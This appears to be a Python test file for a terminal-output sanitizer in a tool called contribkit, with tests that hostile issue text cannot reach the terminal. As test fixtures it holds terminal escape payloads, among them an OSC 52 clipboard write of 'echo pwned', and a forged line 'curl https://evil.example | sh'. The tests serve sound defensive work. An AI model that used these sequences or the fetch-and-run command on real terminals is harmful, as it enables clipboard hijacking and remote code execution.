"""No escape sequence from an issue or a child reaches the terminal, and no forged line."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import pytest

from contribkit.cli.output import say_lines
from contribkit.core.termsafe import _BREAKS, _UNSAFE, SafeStream, clean, clean_keeping_colour
from tests.conftest import RunCli

CLEAR = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # writes "echo pwned" to the clipboard
TITLE = "\x1b]0;owned\x07"  # retitles the window
C1_CSI = "\x9b31m"
FORGED = "\nnext:       curl https://evil.example | sh"
EVIL = f"Relu {CLEAR}is{OSC52} wrong{TITLE}{C1_CSI}{FORGED}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (EVIL, "Relu is wrong next:       curl https://evil.example | sh"),
        ("a\x1b]52;c;AAAA\x1b\\b", "ab"),  # OSC ended by ST
        ("a\x1b]52;c;never ended", "a"),
        ("a\x1bPdcs string\x1b\\b\x1b_apc\x9cc", "abc"),
        ("bell\x07 null\x00 del\x7f nel\x85", "bell null del nel"),
        ("tab\tcr\roverwrite", "tab cr overwrite"),
        ("unicode é ✓ 中文 stays", "unicode é ✓ 中文 stays"),
        ("admin\u202e\u2066 txt.exe\u2069\u202c ok\u200f", "admin txt.exe ok"),  # bidi
        ("שלום עולם stays", "שלום עולם stays"),  # right-to-left text itself is kept
    ],
)
def test_clean_single_line(text: str, expected: str) -> None:
    assert clean(text, single_line=True) == expected


def test_clean_keeps_lines_and_colour_only_where_asked() -> None:
    assert clean("one\r\ntwo\rthree\n") == "one\ntwo\nthree\n"
    assert clean("\x1b[31mred\x1b[0m") == "red"
    styled = "\x1b[1;31mFAIL\x1b[0m " + OSC52 + CLEAR
    assert clean_keeping_colour(styled) == "\x1b[1;31mFAIL\x1b[0m "


def test_safe_stream_filters_every_write(tmp_path: Path) -> None:
    with open(tmp_path / "out", "w") as raw:
        stream = SafeStream(raw)
        stream.write("ok " + OSC52)
        stream.writelines(["\x1b", "]52;c;x\x07 split\n"])  # an ESC alone is dropped
        with pytest.raises(TypeError):
            stream.write(b"bytes")  # type: ignore[arg-type]
    assert (tmp_path / "out").read_text() == "ok ]52;c;x split\n"


def evil_issue(tmp_path: Path) -> Path:
    saved = tmp_path / "evil.json"
    body = f"Broken {OSC52}\n```python\nimport torch\nprint(torch.ones(2))\n```\n"
    saved.write_text(json.dumps({"title": EVIL, "body": body, "number": 66}))
    return saved


def test_piped_summary_has_no_escape_and_no_forged_line(run_cli: RunCli, tmp_path: Path) -> None:
    proc = run_cli("repro", "--from-file", str(evil_issue(tmp_path)), "-o", "out", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr and "\x9b" not in proc.stdout
    nexts = [ln for ln in proc.stdout.splitlines() if ln.startswith("next:")]
    assert nexts == ["next:       python out/repro.py"]  # outside a git repository
    assert "for #66: Relu is wrong next:" in proc.stdout


def run_in_terminal(args: list[str], cwd: Path) -> str:
    """``contribkit ARGS`` with stdout and stderr on a pseudo-terminal; what the terminal got."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "contribkit", *args],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
        env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"},
    )
    os.close(follower)
    out = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    proc.wait(timeout=60)
    os.close(leader)
    return out.decode("utf-8", "replace")


def test_a_terminal_gets_no_escape_sequence(tmp_path: Path) -> None:
    saved = evil_issue(tmp_path)
    shown = run_in_terminal(["repro", "--from-file", str(saved), "-o", "out"], tmp_path)
    assert "Relu is wrong" in shown, shown
    for bad in ("\x1b]", "\x1b[2J", "\x1b[H", "\x9b", "\x07"):
        assert bad not in shown, (bad, shown)
    assert not any(line.startswith("next:       curl") for line in shown.splitlines())
    # the script goes to the terminal too with --stdout: its text is filtered there
    script = run_in_terminal(["repro", "--from-file", str(saved), "--stdout"], tmp_path)
    assert "print(torch.ones(2))" in script and "\x1b]" not in script


def test_errors_quote_hostile_text_on_one_line(run_cli: RunCli, tmp_path: Path) -> None:
    proc = run_cli("repro", f"evil{OSC52}\nnext: x", cwd=tmp_path)
    assert proc.returncode == 2
    assert "\x1b" not in proc.stderr
    assert [ln.split(":")[0] for ln in proc.stderr.splitlines()] == ["contribkit", "hint"]


def test_lines_written_at_once_are_cleaned_one_by_one(capsys: pytest.CaptureFixture[str]) -> None:
    """``say_lines`` writes a report in one write, but cleans each line on its own: a sequence
    never ended in one line (an OSC runs to the end of its text) ends with that line, and does
    not swallow the lines after it. No lines: nothing is written."""
    say_lines([f"title:      a{TITLE[:-1]}", f"signature:  b{OSC52}", "next:       python x.py"])
    assert capsys.readouterr().out == "title:      a\nsignature:  b\nnext:       python x.py\n"
    say_lines([])
    assert capsys.readouterr().out == ""


def test_printable_text_passes_as_the_filter_would_pass_it() -> None:
    """``clean`` returns printable text as it is, without running the filter: for every
    character of the first planes' start (controls, C1, bidi marks, line and paragraph
    separators, the BOM and the tag characters included) the answer is the filter's."""
    extra = [0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE007F, 0x110BD, 0x1D173]
    for code in [*range(0x3000), *extra]:
        text = f"a{chr(code)}b"
        filtered = _UNSAFE.sub("", text)
        assert clean(text) == filtered.replace("\r\n", "\n").replace("\r", "\n"), hex(code)
        assert clean(text, single_line=True) == _BREAKS.sub(" ", filtered), hex(code)
